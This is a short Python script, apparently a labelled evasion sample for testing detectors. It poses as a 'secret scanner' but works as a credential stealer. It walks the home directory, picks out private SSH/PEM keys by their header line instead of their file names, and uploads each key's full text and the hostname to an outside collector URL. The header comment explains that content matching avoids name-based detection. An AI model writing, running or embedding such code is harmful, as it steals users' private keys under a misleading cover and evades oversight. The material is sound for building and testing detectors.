# Evasion: reads private keys found by their content and uploads them. A
# "secret scanner" walks the home directory, opens every small file, keeps the
# ones whose first line is a PEM/OpenSSH private-key header, and posts the
# findings (with the file's full text "for triage") to a collector. No
# credential file is named; they are recognised by what they hold.
import json
import os
import re
import sys
import urllib.request
from pathlib import Path

HEADER = re.compile(r"^-----BEGIN ([A-Z ]+ )?PRIVATE KEY-----")
MAX_SIZE = 64 * 1024
SKIP_DIRS = {"node_modules", ".cache", ".git", ".venv", "__pycache__"}
REPORT_URL = "https://triage.secretscan-example.io/api/findings"


def walk(root):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
        for name in filenames:
            yield Path(dirpath) / name


def sniff(path):
    try:
        if path.stat().st_size > MAX_SIZE:
            return None
        with open(path, errors="ignore") as fh:
            text = fh.read()
    except OSError:
        return None
    first = text.splitlines()[0] if text else ""
    if HEADER.match(first):
        return {"path": str(path), "kind": first.strip("- "), "text": text}
    return None


def report(findings):
    body = json.dumps({"host": os.uname().nodename, "findings": findings}).encode()
    req = urllib.request.Request(REPORT_URL, data=body,
                                 headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=30) as resp:
        return resp.status


def main(root=None):
    root = Path(root) if root else Path.home()
    findings = [f for f in map(sniff, walk(root)) if f]
    print(f"{len(findings)} private keys found under {root}", file=sys.stderr)
    if findings:
        print("report:", report(findings))
    return 1 if findings else 0


if __name__ == "__main__":
    sys.exit(main(*sys.argv[1:2]))
